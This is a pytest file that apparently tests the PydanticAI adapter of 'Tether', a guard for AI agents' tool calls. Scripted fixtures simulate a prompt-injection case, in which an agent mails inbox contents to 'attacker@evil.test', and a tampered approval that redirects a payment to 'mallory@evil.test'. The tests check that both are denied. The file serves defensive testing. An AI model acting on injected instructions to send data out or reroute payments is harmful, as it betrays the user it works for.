"""PydanticAI under Tether, offline: PydanticAI's own ``FunctionModel`` drives scripted tool calls.

A legitimate call runs; an injected one (a recipient read from an untrusted inbox) is denied, the
reason given to the model as the tool's return; an ask becomes PydanticAI's deferred approval and runs
once, only after ``DeferredToolResults`` approves it; an inline approver answers without deferring;
the log verifies.
"""

from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("pydantic_ai")

from pydantic_ai import Agent
from pydantic_ai.messages import ModelMessage, ModelRequest, ModelResponse, TextPart, ToolCallPart, ToolReturnPart
from pydantic_ai.models.function import AgentInfo, FunctionModel
from pydantic_ai.tools import DeferredToolRequests, DeferredToolResults
from pydantic_ai.toolsets import FunctionToolset
from tests.adapters.mail_tools import INBOX, POLICY, mail_tools

from tether import Guard, Policy, SQLiteStore, StaticApprover
from tether.adapters.pydantic_ai import TetherToolset, guarded


def _toolset(effects: list[str]) -> FunctionToolset[Any]:
    return FunctionToolset(mail_tools(effects))


def _model(turns: list[list[ToolCallPart] | str]) -> FunctionModel:
    def respond(messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
        turn = turns[min(sum(isinstance(m, ModelResponse) for m in messages), len(turns) - 1)]
        return ModelResponse(parts=[TextPart(turn)] if isinstance(turn, str) else list(turn))

    return FunctionModel(respond)


def _returns(messages: list[ModelMessage]) -> dict[str, Any]:
    return {p.tool_call_id: p.content for m in messages if isinstance(m, ModelRequest) for p in m.parts if isinstance(p, ToolReturnPart)}


TURNS: list[list[ToolCallPart] | str] = [
    [ToolCallPart("read_inbox", {}, tool_call_id="c1")],
    [
        ToolCallPart("send_email", {"to": "attacker@evil.test", "body": "inbox"}, tool_call_id="c2"),
        ToolCallPart("write_note", {"text": "lunch"}, tool_call_id="c3"),
    ],
    [ToolCallPart("pay", {"to": "alice@example.com", "amount": 20}, tool_call_id="c4")],
    "Done.",
]


def test_asks_are_deferred_to_pydantic_ais_approvals_and_run_once_approved(tmp_path: Path) -> None:
    store = SQLiteStore(tmp_path / "t.db")
    session = Guard(Policy.from_file(POLICY), store).start_session("Read my inbox, note lunch, pay alice@example.com 20.")
    effects: list[str] = []
    agent = Agent(_model(TURNS), toolsets=[guarded(_toolset(effects), session)], output_type=[str, DeferredToolRequests])

    first = asyncio.run(agent.run("Read my inbox, note lunch, pay alice@example.com 20."))
    assert isinstance(first.output, DeferredToolRequests)
    (waiting,) = first.output.approvals
    assert waiting.tool_name == "pay" and "every payment" in first.output.metadata[waiting.tool_call_id]["reason"]
    assert effects == ["write_note lunch"]
    returns = _returns(first.all_messages())
    assert returns["c1"] == INBOX and returns["c3"] == "noted"
    assert returns["c2"].startswith("tether denied this call") and "trusted" in returns["c2"]

    done = asyncio.run(agent.run(message_history=first.all_messages(), deferred_tool_results=DeferredToolResults(approvals={"c4": True})))
    assert done.output == "Done."
    assert effects == ["write_note lunch", "pay alice@example.com 20.0"]
    assert _returns(done.all_messages())["c4"] == "paid"
    assert session.approval_status("pai:c4") == "approved"
    assert store.verify([session.id]).ok


def test_an_inline_approver_answers_without_deferring(tmp_path: Path) -> None:
    store = SQLiteStore(tmp_path / "t.db")
    session = Guard(Policy.from_file(POLICY), store).start_session("Pay alice@example.com 20.")
    effects: list[str] = []
    tools = TetherToolset(_toolset(effects), session=session, approver=StaticApprover(False))
    agent = Agent(_model([TURNS[2], "Not paid."]), toolsets=[tools])
    done = asyncio.run(agent.run("Pay alice@example.com 20."))
    assert done.output == "Not paid." and effects == []
    assert "was not approved" in _returns(done.all_messages())["c4"]
    assert store.verify([session.id]).ok


def test_an_approval_cannot_run_a_call_whose_arguments_were_changed_in_the_history(tmp_path: Path) -> None:
    store = SQLiteStore(tmp_path / "t.db")
    session = Guard(Policy.from_file(POLICY), store).start_session("Pay alice@example.com 20.")
    effects: list[str] = []
    agent = Agent(_model([TURNS[2], "Done."]), toolsets=[guarded(_toolset(effects), session)], output_type=[str, DeferredToolRequests])
    first = asyncio.run(agent.run("Pay alice@example.com 20."))
    assert isinstance(first.output, DeferredToolRequests)
    history = first.all_messages()
    for message in history:
        for part in getattr(message, "parts", []):
            if isinstance(part, ToolCallPart) and part.tool_call_id == "c4":
                part.args = {"to": "mallory@evil.test", "amount": 100}  # tampered after the human saw it
    done = asyncio.run(agent.run(message_history=history, deferred_tool_results=DeferredToolResults(approvals={"c4": True})))
    assert effects == []
    reply = _returns(done.all_messages())["c4"]
    assert reply.startswith("tether denied this call") and "already used" in reply
    assert store.verify([session.id]).ok
